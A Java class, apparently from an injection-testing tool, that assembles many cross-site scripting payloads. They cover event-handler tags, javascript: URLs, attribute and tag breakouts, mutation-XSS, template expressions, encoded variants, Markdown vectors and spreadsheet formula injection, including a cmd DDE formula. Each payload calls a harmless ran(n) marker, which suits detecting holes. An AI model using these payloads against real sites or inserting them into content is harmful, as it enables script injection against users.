package ca.tandem.injection;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that run a script where a page takes them for more than text: elements that run by themselves, addresses that are scripts, ways out
 * of attributes, scripts, comments and elements, Markdown, expressions, and other spellings of all that. Each calls {§code ran} with its
 * own number. The lists are combined, so that a new way out is tried with what runs, and what runs in every way out.
 */
final class Payloads {

    /** The product that a page shows only if it evaluates an expression in a payload. */
    static final String WORKED_OUT = "60489129";

    /** The placeholder of the call in a list. */
    private static final String CALL = "§";

    private static final List<String> ELEMENTS = List.of(
            "<script>§</script>",
            "<ScRiPt >§</sCrIpT >",
            "<script/x>§</script>",
            "<script type=module>§</script>",
            "<script src=\"data:text/javascript,§\"></script>",
            "<scr<script>ipt>§</scr</script>ipt>",
            "<img src=x onerror=§>",
            "<img src=\"x\" onerror=\"§\">",
            "<img/src=x/onerror=§>",
            "<IMG SRC=x ONERROR=§>",
            "<img src=x onerror\n=\n§>",
            "<image src=x onerror=§>",
            "<svg onload=§>",
            "<svg/onload=§>",
            "<svg><script>§</script></svg>",
            "<svg><animate onbegin=§ attributeName=x dur=1s>",
            "<svg><set onbegin=§ attributeName=x>",
            "<svg><foreignObject><img src=x onerror=§>",
            "<svg></p><style><a id=\"</style><img src=x onerror=§>\">",
            "<svg><style><img src=x onerror=§></style></svg>",
            "<math><mtext><img src=x onerror=§></mtext></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=§&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
            "<body onload=§>",
            "<body onpageshow=§>",
            "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
            "<iframe src=\"javascript:parent.§\"></iframe>",
            "<iframe onload=§></iframe>",
            "<object data=\"javascript:parent.§\"></object>",
            "<object data=x onerror=§></object>",
            "<embed src=\"javascript:parent.§\">",
            "<details open ontoggle=§>x</details>",
            "<input autofocus onfocus=§>",
            "<select autofocus onfocus=§></select>",
            "<textarea autofocus onfocus=§></textarea>",
            "<button autofocus onfocus=§>x</button>",
            "<x tabindex=1 autofocus onfocus=§>x</x>",
            "<p contenteditable autofocus onfocus=§>x</p>",
            "<video src=x onerror=§></video>",
            "<video><source onerror=§></video>",
            "<audio src=x onerror=§></audio>",
            "<style onload=§></style>",
            "<link rel=stylesheet href=\"data:text/css,a{}\" onload=§>",
            "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
            "<template shadowrootmode=open><img src=x onerror=§></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
            "<xss onanimationstart=§ style=\"animation:x\">x</xss>",
            "<marquee onstart=§>x</marquee>",
            "<base href=\"javascript:§//\">",
            "<table background=\"javascript:§\"><tr><td>x</table>",
            "<p onmouseover=§>x</p>",
            "<a onclick=§>x</a>");

    private static final List<String> SCRIPTS_AS_ADDRESSES = List.of(
            "javascript:§",
            "JaVaScRiPt:§",
            "java&#9;script:§",
            "java&#10;script:§",
            "&#106;avascript:§",
            "&#x6A&#x61;vascript:§",
            "javascript&colon;§",
            "javascript&#58;§",
            "&#1;javascript:§",
            " javascript:§",
            "javascript://%0a§",
            "javascript:void§",
            "vbscript:§",
            "data:text/html,<script>parent.§</script>",
            "data:image/svg+xml,<svg onload=§>");

    private static final List<String> TAKE_ADDRESSES =
            List.of("<a href=\"%s\">x</a>", "[x](%s)", "[x](<%s>)", "<form action=\"%s\"><input type=submit></form>");

    private static final List<String> ADDRESSED = List.of(
            "<javascript:§>",
            "![x](javascript:§)",
            "[x]\n\n[x]: javascript:§",
            "<form><button formaction=\"javascript:§\">x</button></form>",
            "<math href=\"javascript:§\">x</math>",
            "<svg><a href=\"javascript:§\"><text y=9>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=§>#x\"></svg>",
            "javascript:§",
            "//x/\"onfocus=§ autofocus x=\"");

    private static final List<String> WAYS_OUT = List.of(
            "\">",
            "'>",
            "`>",
            ">",
            "-->",
            "--!>",
            "]]>",
            "?>",
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "</noscript>",
            "</template>",
            "</option></select>",
            "</button>",
            "</a>",
            "</pre></code>",
            "</svg>",
            "</math>",
            "<!-->");

    private static final List<String> RUN_AFTER_A_WAY_OUT = List.of("<img src=x onerror=§>", "<svg onload=§>");

    private static final List<String> WITHOUT_ELEMENTS = List.of(
            "\" autofocus onfocus=§ x=\"",
            "' autofocus onfocus=§ x='",
            "x autofocus onfocus=§",
            "\" onmouseover=\"§",
            "\";§;//",
            "';§;//",
            "\\\";§;//",
            "\\';§;//",
            "\"-§-\"",
            "'-§-'",
            "`-§-`",
            "${§}",
            "\u2028§//",
            "\"});§;({\"",
            "</script><script>§</script>",
            "\"}</script><script>§</script>",
            "\\u0022;§;//");

    private static final List<String> EXPRESSIONS = List.of(
            "#{7776*7779-375}",
            "${7776*7779-375}",
            "{{7776*7779-375}}",
            "{{constructor.constructor('§')()}}",
            "<%=7776*7779-375%>");

    private static final List<String> OTHER_SPELLINGS = List.of(
            "&lt;script&gt;§&lt;/script&gt;",
            "&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;",
            "&#60;script&#62;§&#60;/script&#62;",
            "%3Cscript%3E§%3C/script%3E",
            "\\u003cscript\\u003e§\\u003c/script\\u003e",
            "\\x3cscript\\x3e§\\x3c/script\\x3e",
            "\uFF1Cscript\uFF1E§\uFF1C/script\uFF1E",
            "+ADw-script+AD4-§+ADw-/script+AD4-",
            "<script xmlns=\"http://www.w3.org/1999/xhtml\">§</script>",
            "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">§</h:script>",
            "<?xml-stylesheet href=\"javascript:§\"?>");

    private static final List<String> MARKDOWN = List.of(
            "![x](x\"onerror=\"§)",
            "![x\" onerror=\"§](x)",
            "[x](x \"\\\" onmouseover=§\")",
            "[x\" onmouseover=\"§](x)",
            "`<img src=x onerror=§>`",
            "    <img src=x onerror=§>",
            "# <img src=x onerror=§>",
            "> <img src=x onerror=§>",
            "- <img src=x onerror=§>",
            "| <img src=x onerror=§> |\n| --- |",
            "```\"onmouseover=§ x=\"\nx\n```",
            "<http://x/?\"onmouseover=\"§>",
            "<x@\"onmouseover=§.ca>",
            "\\<img src=x onerror=§>",
            "<!-- --><img src=x onerror=§><!-- -->",
            "**<img src=x onerror=§>**");

    /** Formulas, which a spreadsheet evaluates where they begin a cell of an exported list. */
    private static final List<String> FORMULAS =
            List.of("=HYPERLINK(\"javascript:§\")", "=cmd|' /C §'!A0", "+§", "-§", "@SUM(§)");

    private Payloads() {}

    /** Returns every payload, in the order of its number. */
    static List<String> all() {
        var all = new ArrayList<String>();
        Stream.of(
                        ELEMENTS,
                        addressed(),
                        ADDRESSED,
                        afterAWayOut(),
                        WITHOUT_ELEMENTS,
                        EXPRESSIONS,
                        OTHER_SPELLINGS,
                        MARKDOWN,
                        FORMULAS)
                .flatMap(List::stream)
                .forEach(shape -> all.add(shape.replace(CALL, "ran(" + all.size() + ")")));
        return List.copyOf(all);
    }

    /** Returns the payloads that are formulas. */
    static List<String> formulas() {
        var all = all();
        return all.subList(all.size() - FORMULAS.size(), all.size());
    }

    /** Returns the payloads packed into texts of a field's length, each payload a paragraph. */
    static List<String> packed(int longest) {
        var packs = new ArrayList<String>();
        var pack = "";
        for (var payload : all()) {
            if (!pack.isEmpty() && pack.length() + payload.length() + 2 > longest) {
                packs.add(pack);
                pack = "";
            }
            pack = pack.isEmpty() ? payload : pack + "\n\n" + payload;
        }
        packs.add(pack);
        return packs;
    }

    private static List<String> addressed() {
        return SCRIPTS_AS_ADDRESSES.stream()
                .flatMap(address -> TAKE_ADDRESSES.stream().map(taker -> taker.replace("%s", address)))
                .toList();
    }

    private static List<String> afterAWayOut() {
        return WAYS_OUT.stream()
                .flatMap(out -> RUN_AFTER_A_WAY_OUT.stream().map(runs -> out + runs))
                .toList();
    }
}
